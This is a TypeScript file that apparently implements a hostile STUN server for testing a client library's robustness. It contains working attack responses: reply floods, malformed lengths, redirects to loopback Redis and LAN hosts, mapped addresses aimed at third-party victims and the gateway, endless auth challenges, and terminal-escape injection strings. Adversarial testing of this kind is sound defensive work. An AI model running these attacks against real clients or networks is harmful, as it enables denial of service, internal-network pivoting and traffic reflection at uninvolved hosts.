/**
 * A STUN server as an attacker would program it, at 44.0.0.9, ports 3478 and 3479, over UDP and TCP:
 *
 *     hostile_stun.ts ATTACK
 *
 * Own sockets and own bytes: nothing of the library is used here.
 *
 * @module
 */

// deno-lint-ignore-file no-console

import { attribute, COOKIE, junk, text } from "./stun_bytes.ts";

const SERVER = "44.0.0.9";
const NEIGHBOUR = "192.168.1.50";
const GATEWAY = "192.168.1.1";
const VICTIM = "44.0.0.66";

interface Asked {
  readonly request: Uint8Array;
  readonly from: { readonly hostname: string; readonly port: number };
  /** Which request it is, from 0. */
  readonly index: number;
  readonly isTcp: boolean;
}

type Attack = (asked: Asked) => Iterable<Uint8Array>;

const truth = ({ from }: Asked) => mapped(from.hostname, from.port);

const ATTACKS: Record<string, Attack> = {
  silent: () => [],
  "flood of answers": function* (asked) {
    const answer = success(asked, truth(asked), other(VICTIM, 3479));
    for (let i = 0; i < 5000; i++) yield i % 2 ? answer : junk(1400);
  },
  "answers of 64 KB": (asked) => [
    success(asked, truth(asked), attribute(0x8022, junk(60_000))),
  ],
  "thousands of attributes": (asked) => [
    success(asked, ...Array.from({ length: 5000 }, () => truth(asked))),
  ],
  "length that lies": (asked) => {
    const bytes = success(asked, truth(asked));
    bytes[2] = 0xff;
    bytes[3] = 0xfc;
    return [bytes];
  },
  "junk": () => [junk(100), junk(1), new Uint8Array()],
  "sends to itself": (
    asked,
  ) => [error(asked, 300, "Try", attribute(0x8023, address(SERVER, 3478)))],
  "sends round and round": (asked) => [
    error(asked, 300, "Try", attribute(0x8023, address(SERVER, 1024 + asked.index))),
  ],
  "sends to a neighbour": (asked) => [
    error(asked, 300, "Try", attribute(0x8023, address(NEIGHBOUR, 6379))),
  ],
  "sends to loopback": (asked) => [
    error(asked, 300, "Try", attribute(0x8023, address("127.0.0.1", 6379))),
  ],
  "other address is a neighbour": (asked) => [
    success(asked, truth(asked), other(NEIGHBOUR, 9100)),
  ],
  "other address is a third party": (asked) => [
    success(asked, truth(asked), other(VICTIM, 53)),
  ],
  "another third party each time": (asked) => [
    success(asked, truth(asked), other(`44.0.1.${asked.index % 250}`, 1 + asked.index)),
  ],
  "mapped address is a neighbour": (asked) => [success(asked, mapped(NEIGHBOUR, 9100))],
  "mapped address is the gateway": (asked) => [success(asked, mapped(GATEWAY, 80))],
  "mapped address is a third party": (asked) => [
    success(asked, mapped(VICTIM, asked.isTcp ? 25 : 53), other(SERVER, 3479)),
  ],
  "mapped address is a third party and all of its ports": (asked) => [
    success(asked, mapped(VICTIM, 1 + asked.index * 7 % 60_000), other(SERVER, 3479)),
  ],
  "mapped address is loopback": (asked) => [success(asked, mapped("127.0.0.1", 6379))],
  "terminal escapes": (asked) => [
    error(asked, 420, "\u009b2J\u009b31mEVIL\u202egnp.exe\u0007\u007f\u001b[2J\u0085nl\u2028ls"),
  ],
  "reason of many kilobytes": (asked) => [error(asked, 420, "x".repeat(50_000))],
  "challenge without end": (asked) => [
    error(
      asked,
      asked.index % 2 ? 438 : 401,
      "again",
      attribute(0x14, text(`realm${asked.index}`)),
      attribute(0x15, text(`nonce${asked.index}`)),
    ),
  ],
};

function address(ip: string, port: number): Uint8Array {
  return Uint8Array.of(0, 1, port >> 8, port & 255, ...ip.split(".").map(Number));
}

function mapped(ip: string, port: number): Uint8Array {
  const value = address(ip, port);
  for (let i = 0; i < 2; i++) value[2 + i]! ^= COOKIE[i]!;
  for (let i = 0; i < 4; i++) value[4 + i]! ^= COOKIE[i]!;
  return attribute(0x20, value);
}

function other(ip: string, port: number): Uint8Array {
  return attribute(0x802c, address(ip, port));
}

function message(
  type: number,
  { request }: Asked,
  attributes: readonly Uint8Array[],
): Uint8Array {
  const length = attributes.reduce((sum, each) => sum + each.length, 0);
  const bytes = new Uint8Array(20 + length);
  new DataView(bytes.buffer).setUint16(0, type | request[0]! << 8 | request[1]!);
  new DataView(bytes.buffer).setUint16(2, Math.min(length, 0xffff));
  bytes.set(request.subarray(4, 20), 4);
  let at = 20;
  for (const each of attributes) {
    bytes.set(each, at);
    at += each.length;
  }
  return bytes;
}

function success(asked: Asked, ...attributes: Uint8Array[]): Uint8Array {
  return message(0x0100, asked, attributes);
}

function error(asked: Asked, code: number, reason: string, ...more: Uint8Array[]): Uint8Array {
  const value = Uint8Array.of(0, 0, Math.floor(code / 100), code % 100, ...text(reason));
  return message(0x0110, asked, [attribute(9, value), ...more]);
}

async function serveUdp(attack: Attack, port: number): Promise<void> {
  const socket = Deno.listenDatagram({ transport: "udp", hostname: SERVER, port });
  let index = 0;
  for await (const [request, from] of socket) {
    if (request.length < 20) continue;
    const asked = { request, from: from as Deno.NetAddr, index: index++, isTcp: false };
    for (const bytes of attack(asked)) await socket.send(bytes, from).catch(() => {});
  }
}

async function serveTcp(attack: Attack, port: number): Promise<void> {
  let index = 0;
  const answer = async (connection: Deno.TcpConn) => {
    try {
      const buffer = new Uint8Array(65_536);
      while ((await connection.read(buffer) ?? 0) >= 20) {
        const { remoteAddr: from } = connection;
        const asked = { request: buffer.slice(), from, index: index++, isTcp: true };
        for (const bytes of attack(asked)) {
          for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
        }
      }
    } catch { // the victim has had enough
    } finally {
      connection.close();
    }
  };
  for await (const connection of Deno.listen({ hostname: SERVER, port })) answer(connection);
}

const [name = ""] = Deno.args;
if (name === "--list") {
  console.log(JSON.stringify(Object.keys(ATTACKS)));
  Deno.exit();
}
const attack = ATTACKS[name];
if (attack === undefined) throw new Error(`Cannot attack: no attack is called ${name}`);
for (const port of [3478, 3479]) {
  serveUdp(attack, port);
  serveTcp(attack, port);
}
console.log("ready");
